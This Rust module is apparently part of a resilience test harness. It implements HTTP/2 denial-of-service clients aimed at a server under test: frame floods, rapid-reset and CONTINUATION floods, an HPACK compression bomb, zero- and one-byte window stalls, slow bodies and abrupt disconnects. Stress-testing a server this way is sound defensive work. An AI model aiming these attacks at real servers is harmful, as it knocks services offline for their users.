//! HTTP/2 clients that flood, stall, or leave everything open.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use socket2::SockRef;
use support::frames::{self, END_HEADERS, END_STREAM, PREFACE, data, frame, headers, hello, kind};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::attacker::{Attack, Scene, attack};
use crate::clients1::connect;

/// Frames of a flood on one connection: far more than anybody is allowed.
const FLOOD: usize = 20_000;

/// How long those who are thrown out stay away.
const PAUSE_MS: u64 = 100;

type Field<'a> = (&'a [u8], &'a [u8]);

/// The pseudo-headers of a request.
fn request<'a>(method: &'a str, path: &'a str) -> [Field<'a>; 4] {
    [
        (b":method", method.as_bytes()),
        (b":scheme", b"http"),
        (b":authority", b"catalog"),
        (b":path", path.as_bytes()),
    ]
}

/// Streams of a client, from the first.
fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

pub(crate) fn attacks() -> Vec<Attack> {
    let flood = |name, bytes: Vec<u8>| {
        attack(name, 10, PAUSE_MS, move |scene: Scene| flooding(scene.catalog, bytes.clone()))
    };
    let get = request("GET", "/");
    let resets = streams().take(FLOOD / 2).flat_map(|stream| {
        [headers(stream, END_STREAM, &get), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
    // Each ends by the server's own doing.
    let made_to_be_reset = streams().take(FLOOD / 2).flat_map(|stream| {
        [headers(stream, 0, &request("POST", "/")), frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
    });
    let empty_heads = streams().take(FLOOD).flat_map(|stream| headers(stream, END_STREAM, &[]));
    let open = frame(kind::HEADERS, 0, 1, &frames::block(&get));
    let empty = data(1, 0, b"").repeat(FLOOD);
    vec![
        flood("PINGs", frame(kind::PING, 0, 0, &[0; 8]).repeat(FLOOD)),
        flood("SETTINGS", frame(kind::SETTINGS, 0, 0, b"").repeat(FLOOD)),
        flood("WINDOW_UPDATEs", frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(FLOOD)),
        flood("PRIORITYs", frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(FLOOD)),
        flood("unknown frames", frame(0xfe, 0, 0, b"").repeat(FLOOD)),
        flood("rapid resets", resets.collect()),
        flood("streams that are made to be reset", made_to_be_reset.collect()),
        flood("empty HEADERS", empty_heads.collect()),
        flood("empty DATA", [headers(1, 0, &request("POST", "/")), empty].concat()),
        flood(
            "empty CONTINUATIONs",
            [open.clone(), frame(kind::CONTINUATION, 0, 1, b"").repeat(FLOOD)].concat(),
        ),
        flood("CONTINUATIONs without end", endless_head(open)),
        flood("an HPACK bomb", bomb()),
        attack("streams that are opened and left", 20, PAUSE_MS, |scene| {
            let opened = streams().take(100).flat_map(|stream| headers(stream, 0, &request("POST", "/")));
            holding(scene.catalog, hello(), opened.collect())
        }),
        attack("stalled readers of a gigabyte, HTTP/2", 100, PAUSE_MS, |scene| {
            holding(scene.catalog, wide_open(), headers(1, END_STREAM, &request("GET", "/big")))
        }),
        attack("windows of nothing", 50, PAUSE_MS, |scene| {
            let asked =
                streams().take(100).flat_map(|stream| headers(stream, END_STREAM, &request("GET", "/")));
            holding(scene.catalog, hello_with_window(0), asked.collect())
        }),
        attack("windows of one byte", 10, PAUSE_MS, one_byte_windows),
        attack("slow bodies, HTTP/2", 10, PAUSE_MS, slow_bodies),
        attack("clients that vanish at every step, HTTP/2", 100, PAUSE_MS, vanishing),
    ]
}

/// A preface, and SETTINGS with this window for streams.
fn hello_with_window(bytes: u32) -> Vec<u8> {
    const INITIAL_WINDOW_SIZE: u16 = 4;
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &bytes.to_be_bytes()].concat();
    [PREFACE, &frame(kind::SETTINGS, 0, 0, &setting)].concat()
}

/// The largest windows there are: nothing but the socket holds back the other side.
fn wide_open() -> Vec<u8> {
    let most = i32::MAX.unsigned_abs();
    let more = frame(kind::WINDOW_UPDATE, 0, 0, &(most - 65_535).to_be_bytes());
    [hello_with_window(most), more].concat()
}

/// A head that goes on in frame after frame.
fn endless_head(open: Vec<u8>) -> Vec<u8> {
    let more = frame(kind::CONTINUATION, 0, 1, &frames::block(&[(b"x-a", &[b'x'; 1_000])]));
    [open, more.repeat(2_000)].concat()
}

/// A head that puts a long field into HPACK's table and then names it over and over, a byte each time.
fn bomb() -> Vec<u8> {
    let mut block = frames::block(&request("GET", "/"));
    // A literal with incremental indexing (RFC 7541 section 6.2.1); a length of 4,000 is 127 + 33 + 30 * 128.
    block.extend([0x40, 3]);
    block.extend(b"x-a");
    block.extend([127, 0x80 | 33, 30]);
    block.extend([b'x'; 4_000]);
    // The first field of the table, which is index 62.
    block.extend([0x80 | 62; 12_000]);
    streams()
        .take(50)
        .flat_map(|stream| frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block))
        .collect()
}

/// Sends a flood and reads until it is thrown out.
async fn flooding(to: SocketAddr, bytes: Vec<u8>) {
    let Some(mut stream) = connect(to).await else { return };
    let (mut reader, mut writer) = stream.split();
    let mut buffer = vec![0; 16 * 1024];
    let writing = async {
        let _ = writer.write_all(&[hello(), bytes].concat()).await;
        std::future::pending::<()>().await;
    };
    let reading = async { while reader.read(&mut buffer).await.is_ok_and(|count| count > 0) {} };
    tokio::select! {
        () = reading => {}
        () = writing => {}
    }
}

/// Sends something and then neither reads nor writes until it is thrown out.
async fn holding(to: SocketAddr, hello: Vec<u8>, bytes: Vec<u8>) {
    let Some(mut stream) = connect(to).await else { return };
    let _ = stream.write_all(&[hello, bytes].concat()).await;
    let _ = stream.ready(tokio::io::Interest::ERROR).await;
}

/// Asks for much and takes it byte by byte, as fast as that goes.
async fn one_byte_windows(scene: Scene) {
    let Some(mut stream) = connect(scene.catalog).await else { return };
    let asked = headers(1, END_STREAM, &request("GET", "/big"));
    let mut sent = stream.write_all(&[hello_with_window(1), asked].concat()).await;
    let mut buffer = vec![0; 1024];
    while sent.is_ok() {
        match stream.read(&mut buffer).await {
            Ok(count) if count > 0 => {}
            _ => return,
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
        sent = stream.write_all(&frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])).await;
    }
}

/// A hundred bodies on one connection, a byte of each now and then.
async fn slow_bodies(scene: Scene) {
    static CLIENT: AtomicUsize = AtomicUsize::new(0);
    // Not all in the same moment: that would be a thousand streams at work, and no longer slow.
    let phase = CLIENT.fetch_add(1, Ordering::Relaxed) % 10;
    tokio::time::sleep(Duration::from_millis(100) * u32::try_from(phase).expect("a digit")).await;
    let Some(mut stream) = connect(scene.catalog).await else { return };
    let all: Vec<u32> = streams().take(100).collect();
    let opened: Vec<u8> = all.iter().flat_map(|stream| headers(*stream, 0, &request("POST", "/"))).collect();
    let mut sent = stream.write_all(&[hello(), opened].concat()).await;
    while sent.is_ok() {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let drops: Vec<u8> = all.iter().flat_map(|stream| data(*stream, 0, b"x")).collect();
        sent = stream.write_all(&drops).await;
    }
}

/// Leaves at another byte each time, in order or by a reset.
async fn vanishing(scene: Scene) {
    static STEP: AtomicUsize = AtomicUsize::new(0);
    let bytes = [
        hello(),
        headers(1, 0, &request("POST", "/")),
        data(1, 0, b"half"),
        headers(3, END_STREAM, &request("GET", "/big")),
        frame(kind::PING, 0, 0, &[0; 8]),
        data(1, END_STREAM, b"whole"),
    ]
    .concat();
    let step = STEP.fetch_add(1, Ordering::Relaxed);
    let Some(mut stream) = connect(scene.catalog).await else { return };
    let at = step / 2 % (bytes.len() + 1);
    let _ = stream.write_all(&bytes[..at]).await;
    if at > bytes.len() / 2 {
        let mut buffer = vec![0; 16 * 1024];
        let _ = stream.read(&mut buffer).await;
    }
    if step.is_multiple_of(2) {
        let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
    }
}
